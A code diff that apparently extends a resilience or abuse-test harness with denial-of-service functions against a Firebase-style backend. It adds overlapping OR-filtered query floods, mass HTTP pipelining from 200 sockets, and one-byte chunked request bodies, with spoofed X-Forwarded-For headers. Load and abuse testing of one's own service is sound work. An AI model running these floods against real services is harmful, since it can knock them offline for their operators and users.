@@ -47,6 +47,35 @@ export const attacks = {
     await rest();
   },
 
+  /** 20 queries at once, each with 30 alternatives that all find the same feedbacks of 99 KB. */
+  async overlappingQueries(url: string): Promise<void> {
+    const filters = Array.from({ length: 30 }, (_, second) => ({
+      fieldFilter: {
+        field: { fieldPath: 'createdAt' },
+        op: 'GREATER_THAN',
+        value: { timestampValue: new Date(second * 1000).toISOString() },
+      },
+    }));
+    const where = { compositeFilter: { op: 'OR', filters } };
+    const structuredQuery = { from: [{ collectionId: 'feedbacks' }], where };
+    await times(20, () => post(url, `/v1/${documents}:runQuery`, { structuredQuery }));
+  },
+
+  /** 200 connections that send 1,800 requests for the home page at once, and again when they are closed. */
+  async sentAhead(url: string): Promise<void> {
+    const { host } = new URL(url);
+    const request = `GET / HTTP/1.1\r\nHost: ${host}\r\nX-Forwarded-For: ${ATTACKER}\r\n\r\n`;
+    await times(200, () => sendUntilClosed(url, '', request.repeat(1800), 20));
+  },
+
+  /** 20 bodies in chunks of one byte. */
+  async tinyChunks(url: string): Promise<void> {
+    const head =
+      `POST /v1/${documents}:commit HTTP/1.1\r\nHost: ${new URL(url).host}\r\n` +
+      `X-Forwarded-For: ${ATTACKER}\r\nTransfer-Encoding: chunked\r\n\r\n`;
+    await times(20, () => sendUntilClosed(url, head, '1\r\na\r\n'.repeat(10_000), 100));
+  },
+
   /** 50 sign-ins at once, with made-up emails. */
   async signIns(url: string): Promise<void> {
     const path = '/identitytoolkit.googleapis.com/v1/accounts:signInWithPassword?key=embedded';
@@ -99,6 +128,26 @@ function askWithoutReading(url: string, method: string, body: unknown): Promise<
     );
     socket.once('close', () => resolve(socket));
   });
+}
+
+/** Sends a text and then parts as fast as they are taken. Resolves once the server has closed, or all is sent. */
+async function sendUntilClosed(
+  url: string,
+  head: string,
+  part: string,
+  parts: number,
+): Promise<void> {
+  const { hostname, port } = new URL(url);
+  const socket = connect({ host: hostname, port: Number(port) });
+  socket.on('error', () => {}).resume();
+  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
+  const send = (text: string) =>
+    new Promise<void>((resolve) => socket.write(text, () => resolve()));
+  await send(head);
+  for (let count = 0; count < parts && !socket.destroyed; count += 1) {
+    await Promise.race([send(part), closed]);
+  }
+  socket.destroy();
 }
 
 function times<T>(count: number, work: () => Promise<T>): Promise<T[]> {
